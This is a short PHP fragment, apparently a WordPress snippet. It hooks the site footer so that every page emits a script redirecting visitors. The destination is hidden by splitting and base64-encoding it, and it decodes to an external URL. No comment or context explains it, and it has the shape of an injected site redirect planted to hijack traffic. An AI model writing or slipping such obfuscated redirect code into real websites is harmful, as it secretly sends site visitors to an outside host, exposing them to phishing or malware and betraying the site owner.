<?php
add_action('wp_footer', function () { echo "<script>location.href = atob('aHR0' + 'cHM6Ly9leC5jby95');</script>"; });
